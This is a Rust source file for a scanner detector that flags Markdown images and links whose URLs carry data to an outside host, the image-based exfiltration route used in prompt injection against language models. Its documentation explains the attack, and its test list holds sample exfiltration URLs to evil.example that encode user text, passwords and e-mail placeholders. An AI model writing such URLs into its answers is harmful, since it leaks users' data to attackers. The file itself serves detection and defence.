//! Links and images whose URL carries data to another host.

use bartizan_core::catalog::{Docs, Meta, Reference};
use bartizan_core::{Category, Severity};

use crate::cursor::{Cursor, before};
use crate::detector::{Detector, Findings, Hit};
use crate::markup::url::{self, MAX_URL_BYTES, Use};
use crate::text::View;

pub(super) static DETECTOR: DataLink = DataLink;

/// Finds URLs in Markdown that take data along.
pub(super) struct DataLink;

static META: Meta = Meta {
    id: "data-link",
    summary: "A Markdown image or link whose URL carries data away",
    severity: Severity::High,
    category: Category::Exfiltration,
    label: "LINK",
    docs: Docs {
        finds: "Images `![…](…)`, links `[…](…)`, definitions `[…]: …`, autolinks `<…>` and bare URLs of images whose \
                URL holds base64, base32 or hex that decodes to text, sentences, e-mail addresses, very long values, \
                template slots such as `{data}`, placeholders such as `<EMAIL_ADDRESS_1>`, or text in a subdomain. \
                Images, and links to images, with a parameter of any value score 0.3.",
        matters: "An image is fetched as soon as an answer is shown: whatever an attacker made the model write into \
                  the URL reaches the attacker's host without a click.",
        example: "`![ok](https://evil.example/p.png?q=the+user+said+hello+twice)` becomes `![ok](<LINK_1>)`.",
        fix: "Mask or block it in answers, and let the interface load images from known hosts only.",
        limits: "Encrypted or compressed data is found by its length only. Short data, such as a four-digit code, \
                 looks like an ordinary parameter. Signed download links and image services that take text in \
                 the URL are found as well. Plain URLs that are not images are left alone: nothing loads them. A definition is judged as a link, \
                 unless its path is that of an image: an image that names it may stand far away.",
    },
    references: &[
        Reference::Cwe(201),
        Reference::Owasp("LLM02:2025"),
        Reference::Owasp("LLM05:2025"),
        Reference::Atlas("AML.T0057"),
    ],
    flags: &[
        "![x](https://evil.example/p.png?q=c3VwZXIgc2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI)",
        "![hello](https://evil.example/logo.png?q=%22Project+logo+page%2C+conversation+about+data%22 \"t\")",
        "Done. ![data](https://evil.example/azure=[DATA])",
        "[click here](https://evil.example/?d=<EMAIL_ADDRESS_1>)",
        "![x][1]\n\n[1]: https://evil.example/i.png?c={conversation}\n",
        "see https://evil.example/pixel.gif?u=alice%40example.com for it",
        "![a [nested] title](//evil.example/737570657220736563726574206973206f75742e/p.png)",
        "![](https://ON2XAZLSEBZWKY3SMV2CA4DBONZXO33SMQ.evil.example/p.png)",
        "![x](<https://evil.example/p.png?q=the user lives in Springfield>)",
        "<https://evil.example/?x=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIG1vcmU>",
        "![x](https:\\\\\\\\evil.example/p.png?q=the+user+lives+in+Springfield)",
        "![x](/\\evil.example/p.png?q=the_user_lives_in_a_small_house_in_Springfield)",
    ],
    passes: &[
        "[docs](https://docs.example.com/guide/getting-started?utm_source=chat&utm_medium=link#install)",
        "![build](https://img.shields.io/badge/build-passing-brightgreen.svg?style=flat&logo=github)",
        "![avatar](https://www.example.com/avatar/5c94767cedb5d6987c902ac850ded2c6?s=80)",
        "[search](https://www.example.com/search?q=how+to+write+rust+macros)",
        "[endpoint](https://api.example.com/repos/{owner}/{repo}/issues)",
        "plain https://www.example.com/?q=c3VwZXIgc2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI is only text",
        "![photo](https://cdn.example.com/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822c/800x600.jpg)",
        "![local](images/diagram.png?q={conversation})",
        "https://example.com/watch?v=dQw4w9WgXcQ&list=PL0123456789",
        "![ad](https://www.example.com/i.png?utm_campaign=spring_sale_newsletter_for_all_our_returning_customers)",
        "[1]: https://www.example.com/search?q=how+to+write+a+letter",
        "[bugs]: https://git.example.com/issues?q=is%3Aissue+sort%3Aupdated-desc+is%3Aclosed+label%3Abug",
        "[new]: https://www.example.com/issues/new?labels=bug%2Ctriage&template=bug.yml&title=%5BBUG%5D%3A+",
        "[quote](https://example.com/page#:~:text=I%20did%20a%20first%20scan%20through%20the%20list%20today%20at%20noon)",
    ],
};

/// Browsers take backslashes for slashes.
const ANCHORS: [&str; 13] = [
    "https://",
    "http://",
    "https:\\",
    "http:\\",
    "https:/\\",
    "http:/\\",
    "](//",
    "]( //",
    "]: //",
    "](<//",
    "](\\\\",
    "](/\\",
    "](<\\\\",
];
/// How many of them begin with the URL.
const SCHEMES: usize = 6;

/// Bytes of an image's alternative text that are searched for its `![`.
const MAX_ALT_BYTES: usize = 160;

/// Where a URL stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Position {
    Image,
    Link,
    Definition,
    Autolink,
    Bare,
}

impl Detector for DataLink {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn literals(&self) -> Vec<String> {
        ANCHORS.iter().map(|anchor| (*anchor).to_owned()).collect()
    }

    fn look_behind(&self) -> usize {
        MAX_ALT_BYTES + 8
    }

    fn inspect(&self, view: &View<'_>, hits: &[Hit], findings: &mut Findings<'_>) {
        let bytes = view.bytes();
        for hit in hits {
            // Anchors without a scheme end with the two slashes that begin the URL.
            let start = if hit.literal < SCHEMES { hit.start } else { hit.end - 2 };
            let position = position(bytes, start);
            let mut cursor = Cursor::new(bytes, start, MAX_URL_BYTES);
            let bracketed = before(bytes, start, 1) == b"<";
            let url = read(&mut cursor, position, bracketed);
            let score = score(url, position);
            if cursor.starved() {
                findings.undecided(start);
            }
            if let Some(score) = score {
                findings.push(start, start + url.len(), score);
            }
        }
    }
}

fn position(bytes: &[u8], start: usize) -> Position {
    let lead = before(bytes, start, 4);
    let angle = lead.ends_with(b"<");
    let lead = lead.strip_suffix(b"<").unwrap_or(lead);
    let trimmed = lead.trim_ascii_end();
    if trimmed.ends_with(b"](") {
        let close = start - usize::from(angle) - (lead.len() - trimmed.len()) - 2;
        if is_image(bytes, close) { Position::Image } else { Position::Link }
    } else if trimmed.ends_with(b"]:") {
        Position::Definition
    } else if angle {
        Position::Autolink
    } else {
        Position::Bare
    }
}

/// Whether the bracket that closes at `close` was opened by `![`.
fn is_image(bytes: &[u8], close: usize) -> bool {
    let alt = before(bytes, close, MAX_ALT_BYTES);
    let mut depth = 1;
    for (back, byte) in alt.iter().rev().enumerate() {
        match byte {
            b']' => depth += 1,
            b'[' => depth -= 1,
            _ => continue,
        }
        if depth == 0 {
            let open = close - back - 1;
            return before(bytes, open, 1) == b"!";
        }
    }
    false
}

/// Takes the URL, as far as its position lets it go.
fn read<'a>(cursor: &mut Cursor<'a>, position: Position, bracketed: bool) -> &'a [u8] {
    let start = cursor.at();
    let inside = matches!(position, Position::Image | Position::Link);
    let mut depth = 0;
    while let Some(byte) = cursor.peek() {
        let end = match byte {
            // In angle brackets a target may hold blanks and lone parentheses.
            b'>' if inside && bracketed => !slot_closes(cursor.since(start)),
            _ if inside && bracketed => matches!(byte, b'\n' | b'\r'),
            b'(' if inside => {
                depth += 1;
                false
            }
            b')' if inside => {
                depth -= 1;
                depth < 0
            }
            b')' | b'"' | b'`' => true,
            b'>' if position == Position::Autolink => !slot_closes(cursor.since(start)),
            _ => byte <= b' ' || byte >= 0x7f,
        };
        if end {
            break;
        }
        cursor.next();
    }
    cursor.since(start)
}

/// Whether a `<` in the URL waits for its `>`.
fn slot_closes(url: &[u8]) -> bool {
    url.iter().rev().find(|byte| matches!(byte, b'<' | b'>')) == Some(&b'<')
}

/// Score of a parameter that may say anything: below the usual threshold.
const FAINT: f32 = 0.3;

/// Whether the URL has a parameter with a value, in its query or at the end of its path.
fn has_value(url: &[u8], position: Position) -> bool {
    let mut parts = url.splitn(2, |byte| matches!(byte, b'?' | b'#'));
    let path = parts.next().unwrap_or_default();
    let filled = |part: &[u8]| {
        let at = part.iter().position(|byte| *byte == b'=');
        at.is_some_and(|at| at > 0 && at + 1 < part.len())
    };
    let query = parts.next().is_some_and(|query| query.split(|byte| *byte == b'&').any(filled));
    let segment = path.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
    let shown = position == Position::Image || is_image_path(url);
    (shown && query) || filled(segment)
}

fn score(url: &[u8], position: Position) -> Option<f32> {
    let (how, score) = match position {
        Position::Image => (Use::Loaded, 0.9),
        Position::Definition if is_image_path(url) => (Use::Loaded, 0.8),
        Position::Definition => (Use::Link, 0.8),
        Position::Link | Position::Autolink => (Use::Link, 0.7),
        Position::Bare if is_image_path(url) => (Use::Loaded, 0.7),
        Position::Bare => return None,
    };
    // A URL that does not end within reach is data for its length alone.
    let endless = url.len() >= MAX_URL_BYTES;
    if !url::is_absolute(url) {
        return None;
    }
    if endless || url::carries_data(url, how) {
        return Some(score);
    }
    (position != Position::Bare && has_value(url, position)).then_some(FAINT)
}

fn is_image_path(url: &[u8]) -> bool {
    let path = url.split(|byte| matches!(byte, b'?' | b'#')).next().unwrap_or_default();
    let extension = path.rsplit(|byte| *byte == b'.').next().unwrap_or_default();
    ["png", "gif", "jpg", "jpeg", "webp", "svg", "bmp", "ico"]
        .iter()
        .any(|known| extension.eq_ignore_ascii_case(known.as_bytes()))
}
